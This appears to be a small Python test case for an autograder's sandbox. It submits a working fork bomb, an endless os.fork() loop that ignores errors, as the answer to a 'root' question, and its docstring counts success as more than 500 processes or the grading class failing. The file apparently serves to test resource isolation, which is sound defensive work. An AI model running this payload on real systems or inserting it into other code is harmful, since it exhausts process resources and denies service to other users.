"""A fork bomb: every process forks itself forever.

Success: more than 500 processes, the class stops, or the other questions lose points.
"""

ALONE = True
DESERVES = ["square", "standardize", "total", "words", "distance", "primes"]


def attack(submission):
    submission.solve()
    submission.answer(
        "root",
        """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """,
    )
